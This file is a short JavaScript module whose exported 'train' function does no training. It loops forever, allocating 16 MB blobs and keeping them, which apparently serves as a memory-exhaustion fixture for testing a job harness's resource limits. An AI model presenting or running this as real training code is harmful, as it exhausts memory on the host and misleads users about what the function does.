export default async function train(run) {
  const kept = [];
  for (;;) kept.push(new Blob([new Uint8Array(16e6).fill(1)]));
}
